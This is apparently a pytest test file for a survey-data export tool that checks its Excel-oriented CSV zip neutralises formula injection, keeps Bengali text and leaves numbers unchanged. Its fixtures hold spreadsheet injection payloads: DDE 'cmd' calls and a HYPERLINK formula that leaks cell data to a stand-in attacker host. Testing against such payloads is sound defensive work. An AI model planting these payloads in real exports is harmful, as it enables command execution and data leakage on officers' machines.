"""CSV downloads as an enumerator with a hostile answer attacks the officer who opens them: the
"for Excel" zip (web Downloads page and ``sangjog export csv --excel``) never hands a formula
to the spreadsheet and keeps Bengali readable; the plain zip stays Central's bytes."""

from __future__ import annotations

import codecs
import csv
import io
import re
import uuid
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.csvzip import excel_cell
from sync_server.cli import cli
from tests import builders
from tests.builders import RANGPUR

pytestmark = pytest.mark.usefixtures("fast_hashing")
HOSTILE = {
    "obstacles": '=HYPERLINK("http://evil.example/?leak="&amp;A1,"click")',
    "guidance": "=cmd|' /C calc'!A0",
    "citizen_feedback": "+1+cmd|' /C calc'!A0",
    "inspector_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}
AS_TEXT = {
    "obstacles": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "guidance": "=cmd|' /C calc'!A0",
    "citizen_feedback": "+1+cmd|' /C calc'!A0",
    "inspector_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MINUS = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(db, blobs, world) -> str:
    instance = f"uuid:{uuid.uuid4()}"
    xml = builders.vary(builders.inspection_xml(RANGPUR, 40), instance, **HOSTILE).decode("utf-8")
    xml = xml.replace("<caption>সেবা ডেস্ক</caption>", "<caption>-42</caption>")
    xml = xml.replace("<caption>অপেক্ষমাণ নাগরিক</caption>", f"<caption>{MINUS}</caption>")
    builders.submit(db, xml.encode("utf-8"), {"desk.jpg": builders.picture()}, blobs=blobs)
    return instance


def files(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def rows_of(raw: bytes, encoding: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode(encoding))))


def download(client, fmt: str) -> bytes:
    response = client.get("/downloads/export", query_string={
        "area": f"bd_district:{RANGPUR}", "period": "2026", "lang": "en", "format": fmt,
        "form": "innovation_inspection"})
    assert response.status_code == 200, response.get_data(as_text=True)[:400]
    return response.data


def test_the_downloads_page_offers_csv_for_excel_that_runs_no_formula(app, hostile):
    client = builders.login(app.test_client(), "sup_rangpur")
    assert "CSV files of one form for Excel (zip)" in client.get("/downloads").get_data(as_text=True)
    plain, excel = files(download(client, "csv")), files(download(client, "csv_excel"))
    assert sorted(plain) == sorted(excel)
    main = "innovation_inspection.csv"
    assert not plain[main].startswith(codecs.BOM_UTF8)
    assert all(raw.startswith(codecs.BOM_UTF8) for raw in excel.values())
    as_sent = next(r for r in rows_of(plain[main], "utf-8") if r["KEY"] == hostile)
    safe = next(r for r in rows_of(excel[main], "utf-8-sig") if r["KEY"] == hostile)
    for column, value in AS_TEXT.items():
        assert as_sent[column] == value  # scripts get the answer as it was sent
        assert safe[column] == "'" + value, column
    # Numbers stay numbers; Bengali stays Bengali; the other columns are the same.
    for column in ("progress", "location-Altitude", "time_before", "project_name"):
        assert safe[column] == as_sent[column], column
    assert "ই-নামজারি" in excel[main].decode("utf-8-sig") or "ভূমি" in excel[main].decode("utf-8-sig")
    photos = rows_of(excel["innovation_inspection-photos.csv"], "utf-8-sig")
    captions = [r["caption"] for r in photos]
    assert "-42" in captions and "'" + MINUS in captions  # a negative number is not a formula


def test_the_command_line_writes_the_same_excel_zip(app, runner, hostile, tmp_path):
    out = tmp_path / "excel.zip"
    result = runner.invoke(cli, args=["export", "csv", "--form", "innovation_inspection",
                                      "--district", RANGPUR, "--excel", "--quiet", "-o", str(out)])
    assert result.exit_code == 0, result.output
    raw = files(out.read_bytes())["innovation_inspection.csv"]
    assert raw.startswith(codecs.BOM_UTF8)
    row = next(r for r in rows_of(raw, "utf-8-sig") if r["KEY"] == hostile)
    assert row["guidance"] == "'=cmd|' /C calc'!A0"


@given(st.text(max_size=30))
def test_no_neutralised_cell_starts_with_a_formula_character(text):
    cell = excel_cell(text)
    number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", text)
    assert cell == text if (number or not text[:1] or text[0] not in "=+-@\t\r") else cell == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, None, "-12", "+3.5", "-1e3", ".5"])
def test_numbers_are_kept(value):
    assert excel_cell(value) == value
